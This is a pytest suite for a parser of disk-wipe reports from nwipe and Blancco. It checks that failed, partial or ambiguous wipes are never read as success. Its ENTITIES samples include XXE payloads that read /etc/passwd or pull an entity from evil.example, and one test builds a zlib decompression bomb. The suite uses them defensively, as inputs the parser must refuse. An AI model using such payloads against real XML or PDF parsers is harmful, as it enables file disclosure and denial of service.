"""Reading wipe reports of other programs: what they claim, and that nothing but a whole success is one."""

import json
import random
import zlib

import pytest

from hub.imported.recognising import read_report
from hub.imported.reported import Outcome, ReportedDrive, Trouble, Unreadable
from hub.imported.xml_reading import read_xml
from tests.hub.foreign_reports import blancco, nwipe_log, nwipe_pdf, serial_entry

CSV = "Serial;Status;Bytes Erased;Rounds;Errors;HPA/DCO\n{}\n"
JSON = {
    "report_metadata": {"software": "nwipe", "version": "0.41"},
    "device": {"model": "WDC", "serial_no": "WD-0001", "size_bytes": 5},
    "wipe_result": {
        "status": "success",
        "pass_errors": 0,
        "verify_errors": 0,
        "start_time": 1795244400,
        "end_time": 1795244500,
        "duration_seconds": 100,
    },
}


def only(data: bytes) -> ReportedDrive:
    (drive,) = read_report(data).drives
    return drive


def test_a_log_of_nwipe_tells_each_drive_with_its_serial() -> None:
    report = read_report(nwipe_log())
    assert (report.tool, report.version, report.form, report.signed) == ("nwipe", "0.36", "log", False)
    assert [(one.serial, one.model, one.outcome) for one in report.drives] == [
        ("WD-0001", "WDC WD5000LPLX", "success"),
        ("WD-0002", "ST/500DM002", "success"),
    ]
    assert (report.drives[0].technique, report.drives[0].started) == ("PRNG Stream", "2026/11/21 07:00:00")


@pytest.mark.parametrize(
    ("changed", "outcome"),
    [
        ({"status": "-FAILED-"}, "failed"),
        ({"status": " UABORT "}, "failed"),
        ({"status": "INSANITY"}, "failed"),
        ({"status": "        "}, "unknown"),
        ({"status": "        ", "flag": "!"}, "unknown"),
        ({"flag": "!"}, "failed"),
        ({"errors": "3"}, "failed"),
        ({"speed": "0"}, "failed"),
        ({"time": "00:00:00"}, "failed"),
    ],
)
def test_a_log_line_that_is_no_plain_success_is_none(changed: dict[str, str], outcome: str) -> None:
    drives = read_report(nwipe_log(**changed)).drives
    assert [one.outcome for one in drives] == ["success", outcome]


def test_a_log_that_warns_of_hidden_sectors_or_has_no_error_summary_is_no_success() -> None:
    hidden = nwipe_log().replace(b"Program options", b"hidden sectors detected")
    assert {one.outcome for one in read_report(hidden).drives} == {Outcome.EXCEPTIONS}
    table = nwipe_log()[nwipe_log().index(b"***** Drive Status") :]
    assert {one.outcome for one in read_report(table).drives} == {Outcome.UNKNOWN}


def test_a_certificate_of_nwipe_is_read_from_where_its_texts_stand() -> None:
    report = read_report(nwipe_pdf())
    drive = only(nwipe_pdf())
    assert (report.tool, report.version, report.form) == ("nwipe", "0.36", "pdf")
    assert (drive.serial, drive.model, drive.outcome) == ("WD-0001", "WDC WD5000LPLX", "success")
    assert (drive.technique, drive.ended) == ("PRNG Stream", "2026/11/21 08:23:45")


@pytest.mark.parametrize(
    ("facts", "outcome", "why"),
    [
        ({"*Bytes Erased:": "0, (0.0%)"}, "failed", "incomplete"),
        ({"*Bytes Erased:": "499, (99.9%)"}, "failed", "incomplete"),
        ({"*Bytes Erased:": ""}, "unknown", "untold"),
        ({"Rounds(completed/requested):": "0/1"}, "failed", "incomplete"),
        ({"Rounds(completed/requested):": "0/0"}, "failed", "incomplete"),
        ({"Errors(pass/sync/verify):": "0/0/2"}, "failed", "errors"),
        ({"Errors(pass/sync/verify):": "none"}, "unknown", "untold"),
        ({"Status:": "FAILED"}, "failed", "state"),
        ({"Status:": "ABORTED"}, "failed", "state"),
        ({"Status:": "NOT ERASED"}, "failed", "state"),
        ({"Status:": "UNKNOWN"}, "unknown", "state"),
        ({"Status:": ""}, "unknown", "state"),
    ],
)
def test_erased_at_nothing_and_its_like_are_no_success(facts: dict[str, str], outcome: str, why: str) -> None:
    drive = only(nwipe_pdf(facts))
    assert (drive.outcome, drive.why) == (outcome, why)


def test_a_certificate_with_a_warning_is_no_success() -> None:
    assert only(nwipe_pdf(None, "See Warning !")).outcome == Outcome.EXCEPTIONS


def test_an_unknown_serial_of_a_certificate_is_no_serial() -> None:
    assert not only(nwipe_pdf({"Serial:": "Unknown"})).serial


def test_a_certificate_that_another_program_packed_or_that_is_a_bomb_is_refused() -> None:
    plain = nwipe_pdf()
    bomb = zlib.compress(b"\0" * 50_000_000)
    start = plain.index(b"<< /Length", plain.index(b"/BaseFont"))
    stream = b"<< /Filter /FlateDecode /Length %d >>stream\n%s\nendstream" % (len(bomb), bomb)
    bombed = plain[:start] + stream + plain[plain.index(b"endobj", start) - 1 :]
    for data, trouble in (
        (plain.replace(b"/Type /Font", b"/ObjStm /Font"), Trouble.PDF_PACKED),
        (bombed, Trouble.TOO_LARGE),
        (plain[:200], Trouble.PDF),
        (nwipe_pdf(version="of mine"), Trouble.UNKNOWN_FORM),
    ):
        with pytest.raises(Unreadable) as found:
            read_report(data)
        assert found.value.trouble in {trouble, Trouble.UNKNOWN_FORM}


def test_a_report_of_blancco_tells_each_target_by_itself_or_by_its_number() -> None:
    data = blancco({"serial": serial_entry("WD-0001")}, {"target": "7", "state": "Failed"})
    report = read_report(data)
    assert (report.tool, report.version, report.form, report.signed) == ("Blancco Drive Eraser", "7.9.1", "xml", True)
    assert [(one.serial, one.outcome) for one in report.drives] == [("WD-0001", "success"), ("WD-0002", "failed")]
    assert report.drives[0].technique == "NIST 800-88 Clear"


@pytest.mark.parametrize(
    ("state", "failed", "outcome"),
    [
        ("Successful", "4", "exceptions"),
        ("Successful with warnings", "0", "exceptions"),
        ("Erased with exceptions", "0", "exceptions"),
        ("Not successful", "0", "failed"),
        ("Cancelled", "0", "failed"),
        ("", "0", "unknown"),
        ("Erfolgreich", "0", "unknown"),
    ],
)
def test_a_state_of_blancco_that_is_no_plain_success_is_none(state: str, failed: str, outcome: str) -> None:
    drive = only(blancco({"state": state, "failed": failed, "serial": serial_entry("WD-0001")}))
    assert drive.outcome == outcome


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
    b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
    b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><a/>',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16"),
)


@pytest.mark.parametrize("data", ENTITIES)
def test_xml_that_declares_anything_is_refused_before_it_is_expanded(data: bytes) -> None:
    with pytest.raises(Unreadable) as found:
        read_report(data)
    assert found.value.trouble in {Trouble.XML_ENTITIES, Trouble.XML}
    with pytest.raises(Unreadable):
        read_xml(data)


def test_xml_that_is_too_deep_or_too_long_is_refused() -> None:
    for data in (b"<a>" * 60 + b"</a>" * 60, b"<a>" + b"<b/>" * 70_000 + b"</a>"):
        with pytest.raises(Unreadable) as found:
            read_xml(data)
        assert found.value.trouble == Trouble.TOO_LARGE
    assert len(read_xml(b"<a>" + b"x&amp;" * 100_000 + b"</a>").text) < 20_000


def test_lists_of_runs_are_read_and_their_gaps_are_no_success() -> None:
    rows = ("WD-1;ERASED;5 (100%);1/1;0/0/0;", "WD-2;ERASED;;1/1;0/0/0;", "WD-3;FAILED;5 (100%);1/1;0/0/0;")
    rows += ("WD-4;ERASED;0 (0.0%);1/1;0/0/0;", "WD-5;ERASED;5 (100%);1/1;0/0/0;HIDDEN SECTORS DETECTED")
    drives = read_report(CSV.format("\n".join(rows)).encode()).drives
    assert [one.outcome for one in drives] == ["success", "unknown", "failed", "failed", "exceptions"]


@pytest.mark.parametrize(
    ("changed", "outcome"),
    [
        ({}, "success"),
        ({"status": "failure"}, "failed"),
        ({"status": "?"}, "unknown"),
        ({"pass_errors": 1}, "failed"),
        ({"verify_errors": None}, "unknown"),
        ({"pass_errors": False}, "unknown"),
        ({"duration_seconds": 0}, "failed"),
    ],
)
def test_the_json_of_nwipe_is_read_with_its_figures(changed: dict[str, object], outcome: str) -> None:
    document = {**JSON, "wipe_result": {**JSON["wipe_result"], **changed}}
    assert only(json.dumps(document).encode()).outcome == outcome


def test_hostile_bytes_are_refused_and_never_a_success() -> None:
    chance = random.Random(11)
    seeds = [nwipe_log(), nwipe_pdf(), blancco({"serial": serial_entry("WD-0001")}), json.dumps(JSON).encode()]
    files = [b"", b"\0" * 500, b"{", b"[" * 100_000, b"<", b"%PDF-1.4", "\ud800".encode("utf-8", "surrogatepass")]
    for _turn in range(120):
        data = bytearray(chance.choice(seeds))
        for _change in range(chance.randrange(1, 30)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        files.append(bytes(data[: chance.randrange(len(data))]))
    for data in files:
        try:
            report = read_report(data)
        except Unreadable:
            continue
        for drive in report.drives:
            assert drive.outcome != Outcome.SUCCESS or "eras" in drive.said.lower() or "succ" in drive.said.lower()
            assert all(character.isprintable() for character in drive.serial + drive.model + drive.said)
